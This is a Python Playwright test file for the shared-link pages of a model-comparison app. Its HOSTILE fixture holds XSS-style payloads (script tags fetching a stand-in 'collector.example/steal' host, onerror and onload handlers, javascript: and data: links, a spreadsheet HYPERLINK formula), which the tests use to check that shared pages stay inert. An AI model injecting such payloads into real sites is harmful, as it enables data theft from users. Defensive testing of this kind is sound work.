"""A link as whoever gets it meets it: a run or a batch to read, hostile or not, on any screen, and nothing else."""

import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import expect

from components.batch.records import Result, Verdict
from components.batch.store_sink import StoreSink, keep
from components.history.shares import BATCH, RUN
from components.history.store import Store, open_store
from components.history.transfer import import_jsonl
from tests.archive.examples import opinion, run
from tests.batch.results import answer
from tests.batch.running import FLASH, PRO, job_for, table
from tests.browser.driver import DESKTOP, PHONE, App, Screen, running_app
from tests.browser.test_accessibility import assert_accessible
from tests.browser.test_phone import assert_fits

pytestmark = pytest.mark.browser

Visit = Callable[..., Screen]
LURE = "https://collector.example/steal"
HOSTILE = f"""\
<script>window.hit = 1; fetch("{LURE}?script")</script>
<img src="{LURE}.png" onerror="window.hit = 2"><iframe src="{LURE}"></iframe><svg onload="window.hit = 3"></svg>

A picture ![of a cat]({LURE}.png?q=the+prompt), a [page]({LURE}?who=me), [click me](javascript:window.hit=4) and
[data](data:text/html,<script>window.hit=5</script>)

\u202eright to left\u202c and \x00\x07\x1b[31m control, :red[a warning], $5 and $6, =HYPERLINK("{LURE}")

<a href="javascript:window.hit=6">raw</a> <style>body {{ display: none }}</style>
"""
MEGABYTE = "x" * 1_000_000


@pytest.fixture(scope="module")
def links() -> dict[str, str]:
    """The paths of links by what they show; the app below fills it."""
    return {}


@pytest.fixture(scope="module")
def sharing(tmp_path_factory: pytest.TempPathFactory, links: dict[str, str]) -> Iterator[App]:
    """A server whose history has runs and batches that are shared."""
    folder = tmp_path_factory.mktemp("sharing")
    file = folder / "shared.sqlite"
    store = open_store(f"sqlite:///{file}")
    asked = {"system_instruction": "Be short.", "temperature": 0.2, "stop_sequences": ["END"]}
    long = "A hash table finds a key in constant time on average; a B-tree keeps its keys in order. " * 4
    store.begin(run("plain", "What is a hash table?", (long, long[::2]), request=asked, judgements=(opinion("j"),)))
    store.begin(run("blind", "Which is better?", order=(1, 0)))
    hostile = {"system_instruction": HOSTILE, "stop_sequences": [HOSTILE], "attachments": [_file(HOSTILE)]}
    bad = opinion("j", HOSTILE)
    bad = replace(bad, rubric=HOSTILE, outcome={**bad.outcome, "reasons": [HOSTILE] * 2})
    store.begin(run("hostile", HOSTILE, (HOSTILE, HOSTILE), request=hostile, judgements=(bad,), tags=(HOSTILE,)))
    store.begin(run("long", MEGABYTE, (MEGABYTE, "short")))
    _batch(store, "numbers", "Numbers", "", {row: f"Answer {row}." for row in range(1, 31)})
    _batch(store, "nasty", HOSTILE, HOSTILE.replace("\n", " "), {1: HOSTILE, 2: MEGABYTE, 3: "=1+1"})
    for kind, names in ((RUN, ("plain", "blind", "hostile", "long")), (BATCH, ("numbers", "nasty"))):
        for name in names:
            links[name] = f"shared?key={store.shares.create('', kind, name)[1]}"
    store.close()
    with running_app(folder, {"HISTORY_FILE": str(file)}) as started:
        yield started
    said = started.log_text()
    assert "Traceback" not in said
    assert not [path for path in links.values() if path.partition("=")[2] in said]


def _file(name: str) -> dict[str, object]:
    return {"kind": "inline_data", "name": name, "mime_type": "text/plain", "size_bytes": 3}


def _batch(store: Store, name: str, title: str, more: str, texts: dict[int, str]) -> None:
    prompts = table(len(texts), more)
    checks = ({"kind": "contains", "label": title[:40], "value": "x"},)
    job = job_for(prompts, id=name, name=title, models=(PRO, FLASH), checks=checks, catalog_version="c0ffee")
    keep(store, job, prompts, prompts.columns)
    sink = StoreSink(store, job)
    sink.open()
    for model in job.models:
        sink.write([_checked(row, model, text, title[:40]) for row, text in texts.items()])
    sink.close()


def _checked(row: int, model: str, text: str, label: str) -> Result:
    passed = row % 3 != 0 or model == PRO
    return answer(row, model, text=text, simulated=True, checks=(Verdict(label, passed, "" if passed else "Wrong."),))


def unhurt(screen: Screen) -> None:
    """Nothing of a stranger's text ran or was loaded, and no link tells where it was clicked."""
    assert screen.page.evaluate("() => window.hit") is None
    assert screen.main.locator(f"[src^='{LURE}'], iframe, object, embed, svg[onload], a[href^=javascript]").count() == 0
    rels = screen.main.locator("a[href]").evaluate_all(
        "all => all.filter(one => one.origin !== location.origin).map(one => [one.href, one.rel])"
    )
    assert [href for href, rel in rels if "noreferrer" not in rel] == []


def test_a_shared_run_reads_like_one_in_the_history_and_offers_nothing_to_change(visit, sharing, links) -> None:
    screen = visit(links["plain"], on=sharing)
    expect(screen.main).to_contain_text("What is a hash table?")
    expect(screen.keyed("shared_answer_0")).to_contain_text("A hash table")
    expect(screen.main.locator("table.figures")).to_contain_text("Cost")
    expect(screen.main.locator("ul.opinions")).to_contain_text("Opinion of a model")
    assert screen.main.get_by_role("textbox").count() == 0
    expect(screen.page.get_by_test_id("stSidebarNav").get_by_role("link", name="Shared")).to_have_count(0)
    for view in ("Differences", "In numbers", "Code"):
        screen.keyed("shared_views").get_by_text(view, exact=True).click()
        screen.settle()
    unhurt(screen)
    assert_accessible(screen, "light")
    screen.show_in("dark")
    assert_accessible(screen, "dark")


def test_the_file_of_a_shared_run_is_imported_elsewhere(visit, sharing, links, tmp_path: Path) -> None:
    screen = visit(links["plain"], on=sharing)
    with screen.page.expect_download() as started:
        screen.keyed("shared_file").get_by_role("button").click()
    started.value.save_as(tmp_path / "run.jsonl")
    store = open_store(f"sqlite:///{tmp_path / 'elsewhere.sqlite'}")
    try:
        with (tmp_path / "run.jsonl").open("rb") as lines:
            assert import_jsonl(store, "", lines).added == 1
    finally:
        store.close()


def test_the_file_of_a_shared_batch_is_imported_on_the_batch_page(visit, own_app, sharing, links, tmp_path) -> None:
    screen = visit(links["numbers"], on=sharing)
    with screen.page.expect_download() as started:
        screen.keyed("shared_file").get_by_role("button").click()
    started.value.save_as(tmp_path / "batch.jsonl")
    there = visit("batch", on=own_app())
    there.page.get_by_test_id("stExpander").filter(has_text="Import a batch").locator("summary").click()
    there.settle()
    there.keyed("batch_upload").locator("input[type=file]").set_input_files(tmp_path / "batch.jsonl")
    there.keyed("batch_import").get_by_role("button").click()
    expect(there.main).to_contain_text("30 rows and 60 answers added.")
    there.main.get_by_role("link", name="Open the batch").click()
    expect(there.main.locator("h2.batch-name")).to_have_text("Numbers")
    expect(there.main).to_contain_text("⇥ Imported")
    expect(there.main.locator("table.batch-rows")).to_contain_text("Say the number 3.")


def test_a_shared_batch_is_paged_and_opens_row_by_row(visit, sharing, links) -> None:
    screen = visit(links["numbers"], on=sharing)
    expect(screen.main.locator("h2.batch-name")).to_have_text("Numbers")
    expect(screen.main.locator(".js-plotly-plot").first).to_be_visible()
    rows = screen.main.locator("table.batch-rows tbody tr")
    expect(rows).to_have_count(20)
    assert_accessible(screen, "light")
    screen.main.get_by_role("navigation", name="Pages of rows").get_by_role("link", name="Next").click()
    expect(rows).to_have_count(10)
    assert links["numbers"].partition("key=")[2] == screen.asked["key"]
    rows.first.get_by_role("link").click()
    expect(screen.keyed("shared_answer_0")).to_contain_text("Answer")
    screen.main.get_by_role("link", name="← All rows").click()
    expect(rows.first).to_be_visible()
    assert screen.main.get_by_role("button", name=re.compile("Run|Resume|Delete|Open in the playground")).count() == 0


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
@pytest.mark.parametrize("name", ["hostile", "long", "nasty"])
def test_hostile_content_is_inert_on_a_shared_page(visit, sharing, links, name, size) -> None:
    """That nothing was asked from anywhere else is asserted when the window closes."""
    screen = visit(links[name], on=sharing, size=size)
    expect(screen.main.get_by_role("heading", name="Take along")).to_be_visible(timeout=30_000)
    unhurt(screen)
    assert_fits(screen)
    if name == "nasty":
        for row in ("1", "2"):
            screen.open(f"{links[name]}&row={row}")
            expect(screen.keyed("shared_answer_0")).to_be_visible(timeout=30_000)
            unhurt(screen)
            assert_fits(screen)
        return
    for view in ("Differences", "In numbers", "Code"):
        screen.keyed("shared_views").get_by_text(view, exact=True).click()
        screen.settle()
        unhurt(screen)
        assert_fits(screen)


def test_a_link_is_made_copied_opened_and_withdrawn_in_the_history(visit, sharing) -> None:
    screen = visit("history?open=plain", on=sharing)
    screen.page.get_by_test_id("stExpander").filter(has_text="Share this run by a link").locator("summary").click()
    screen.settle()
    screen.keyed("history_share_ask").get_by_role("button").click()
    box = screen.keyed("history_share_confirm")
    expect(box).to_contain_text("Let everybody who has the link read this run, for 30 days?")
    expect(box).to_contain_text("the system instruction")
    assert_accessible(screen, "light")
    screen.keyed("history_share_make").get_by_role("button").click()
    link = screen.keyed("history_share_new").get_by_test_id("stCode").inner_text().strip()
    assert re.fullmatch(rf"{re.escape(sharing.url)}/shared\?key=[\w-]{{43}}", link)
    assert_accessible(screen, "light")

    reader = visit(link.removeprefix(f"{sharing.url}/"), on=sharing)
    expect(reader.main).to_contain_text("What is a hash table?")
    screen.main.get_by_role("button", name="Withdraw").first.click()
    expect(screen.main).to_contain_text("from now on it opens nothing")
    reader.open(link.removeprefix(f"{sharing.url}/"))
    expect(reader.main).to_contain_text("This link does not open anything")
    assert_accessible(reader, "light")


@pytest.mark.parametrize("name", ["plain", "blind", "numbers"])
def test_a_shared_page_fits_a_phone(visit, sharing, links, name) -> None:
    screen = visit(links[name], on=sharing, size=PHONE)
    assert_fits(screen)
    assert_accessible(screen, "light")
